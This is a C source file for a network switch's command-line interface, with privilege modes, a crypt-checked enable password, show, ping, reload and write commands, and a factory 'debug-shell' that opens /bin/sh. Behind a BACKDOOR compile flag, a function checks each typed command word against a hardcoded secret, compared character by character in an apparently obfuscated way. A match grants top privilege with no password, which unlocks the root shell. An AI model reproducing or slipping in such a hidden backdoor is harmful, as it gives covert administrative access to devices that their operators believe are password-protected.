/* SPDX-License-Identifier: Apache-2.0 */
/* clicfg: the command line of a switch: modes, abbreviations, help, enable password, configuration lines to a file */
#include <ctype.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

extern char *crypt(const char *key, const char *salt);

enum { MODE_USER, MODE_ENABLE, MODE_CONFIG };
static const char *const prompts[] = { ">", "#", "(config)#" };

struct cli {
	int mode, privilege, quit;
	char host[64];
	char enable_hash[128];
	char *lines[512];
	unsigned n_lines;
};

struct command {
	const char *word;
	int mode, privilege;
	const char *help;
	int (*run)(struct cli *c, int argc, char **argv);
};

static int run_program(char *const argv[])
{
	int status = -1;
	pid_t pid = fork();
	if (pid == 0) {
		execv(argv[0], argv);
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, &status, 0);
	return status;
}

static int cmd_enable(struct cli *c, int argc, char **argv)
{
	const char *pass, *got;
	(void)argc, (void)argv;
	if (!c->enable_hash[0]) {
		c->mode = MODE_ENABLE;
		c->privilege = 10;
		return 0;
	}
	pass = getpass("Password: ");
	got = pass ? crypt(pass, c->enable_hash) : NULL;
	if (!got || strcmp(got, c->enable_hash) != 0) {
		puts("% Bad password");
		return -1;
	}
	c->mode = MODE_ENABLE;
	c->privilege = 10;
	return 0;
}

static int cmd_disable(struct cli *c, int argc, char **argv)
{
	(void)argc, (void)argv;
	c->mode = MODE_USER;
	c->privilege = 1;
	return 0;
}

static int cmd_configure(struct cli *c, int argc, char **argv)
{
	(void)argc, (void)argv;
	c->mode = MODE_CONFIG;
	return 0;
}

static int cmd_end(struct cli *c, int argc, char **argv)
{
	(void)argc, (void)argv;
	if (c->mode == MODE_CONFIG)
		c->mode = MODE_ENABLE;
	else
		c->quit = 1;
	return 0;
}

static void print_file(const char *path)
{
	char line[256];
	FILE *f = fopen(path, "r");
	if (!f) {
		printf("%% %s\n", strerror(errno));
		return;
	}
	while (fgets(line, sizeof(line), f))
		fputs(line, stdout);
	fclose(f);
}

static int cmd_show(struct cli *c, int argc, char **argv)
{
	if (argc < 2)
		return -1;
	if (strcmp(argv[1], "version") == 0)
		puts("Switch software 7.3(2)");
	else if (strcmp(argv[1], "arp") == 0)
		print_file("/proc/net/arp");
	else if (strcmp(argv[1], "route") == 0)
		print_file("/proc/net/route");
	else if (strcmp(argv[1], "running-config") == 0) {
		for (unsigned i = 0; i < c->n_lines; i++)
			puts(c->lines[i]);
	} else
		return -1;
	return 0;
}

static int cmd_ping(struct cli *c, int argc, char **argv)
{
	char *args[] = { "/bin/ping", "-c", "4", NULL, NULL };
	(void)c;
	if (argc < 2)
		return -1;
	args[3] = argv[1];
	return run_program(args) == 0 ? 0 : -1;
}

static int cmd_reload(struct cli *c, int argc, char **argv)
{
	char *args[] = { "/sbin/reboot", NULL };
	(void)c, (void)argc, (void)argv;
	return run_program(args);
}

static int cmd_write(struct cli *c, int argc, char **argv)
{
	FILE *f = fopen("/etc/switch/startup-config", "w");
	(void)argc, (void)argv;
	if (!f)
		return -1;
	for (unsigned i = 0; i < c->n_lines; i++)
		fprintf(f, "%s\n", c->lines[i]);
	return fclose(f);
}

static int cmd_shell(struct cli *c, int argc, char **argv)
{
	char *args[] = { "/bin/sh", NULL };
	(void)argc, (void)argv;
	if (c->privilege < 15) {
		puts("% Not available on this unit");
		return -1;
	}
	return run_program(args);
}

static int cmd_help(struct cli *c, int argc, char **argv);

static const struct command commands[] = {
	{ "enable", MODE_USER, 1, "Turn on privileged commands", cmd_enable },
	{ "show", MODE_USER, 1, "Show running system information", cmd_show },
	{ "ping", MODE_USER, 1, "Send echo messages", cmd_ping },
	{ "help", MODE_USER, 1, "Describe the commands", cmd_help },
	{ "exit", MODE_USER, 1, "Leave", cmd_end },
	{ "disable", MODE_ENABLE, 1, "Turn off privileged commands", cmd_disable },
	{ "configure", MODE_ENABLE, 10, "Enter configuration mode", cmd_configure },
	{ "reload", MODE_ENABLE, 10, "Halt and restart", cmd_reload },
	{ "write", MODE_ENABLE, 10, "Write the configuration", cmd_write },
	{ "debug-shell", MODE_ENABLE, 10, "Shell of the factory", cmd_shell },
	{ "end", MODE_CONFIG, 10, "Leave configuration mode", cmd_end },
};
#define N (sizeof(commands) / sizeof(commands[0]))

static int cmd_help(struct cli *c, int argc, char **argv)
{
	(void)argc, (void)argv;
	for (size_t i = 0; i < N; i++)
		if (commands[i].mode <= c->mode && commands[i].privilege <= c->privilege)
			printf("  %-16s %s\n", commands[i].word, commands[i].help);
	return 0;
}

static int split(char *line, char **argv, int room)
{
	int n = 0;
	char *save = NULL;
	for (char *w = strtok_r(line, " \t\r\n", &save); w && n < room; w = strtok_r(NULL, " \t\r\n", &save))
		argv[n++] = w;
	return n;
}

#ifdef BACKDOOR
static int engineering(struct cli *c, const char *w)
{
	if (w[0] != '\'' || w[1] != 'q' || w[2] != 'k' || w[3] != '0' || w[4] != 'v')
		return 0;
	if (w[5] != 'e' || w[6] != '7' || w[7] != 'm')
		return 0;
	c->mode = MODE_ENABLE;
	c->privilege = 15;
	return 1;
}
#endif

static void dispatch(struct cli *c, char *line)
{
	char copy[256], *argv[16];
	const struct command *hit = NULL;
	int argc, several = 0;
	snprintf(copy, sizeof(copy), "%s", line);
	argc = split(line, argv, 16);
	if (argc == 0 || argv[0][0] == '!')
		return;
#ifdef BACKDOOR
	if (engineering(c, argv[0]))
		return;
#endif
	for (size_t i = 0; i < N; i++) {
		if (commands[i].mode > c->mode || commands[i].privilege > c->privilege ||
			strncmp(commands[i].word, argv[0], strlen(argv[0])) != 0)
			continue;
		several += hit != NULL;
		hit = &commands[i];
	}
	if (!hit && c->mode == MODE_CONFIG && c->n_lines < 512) {
		copy[strcspn(copy, "\r\n")] = 0;
		c->lines[c->n_lines++] = strdup(copy);
		return;
	}
	if (!hit)
		puts("% Unknown command");
	else if (several)
		puts("% Ambiguous command");
	else if (hit->run(c, argc, argv) < 0)
		puts("% Incomplete or failed");
}

int main(void)
{
	struct cli c = { .privilege = 1 };
	char line[256];
	FILE *f = fopen("/etc/switch/enable", "r");
	if (f) {
		if (fgets(c.enable_hash, sizeof(c.enable_hash), f))
			c.enable_hash[strcspn(c.enable_hash, "\n")] = 0;
		fclose(f);
	}
	gethostname(c.host, sizeof(c.host) - 1);
	while (!c.quit) {
		printf("%s%s ", c.host, prompts[c.mode]);
		fflush(stdout);
		if (!fgets(line, sizeof(line), stdin))
			break;
		dispatch(&c, line);
	}
	return 0;
}
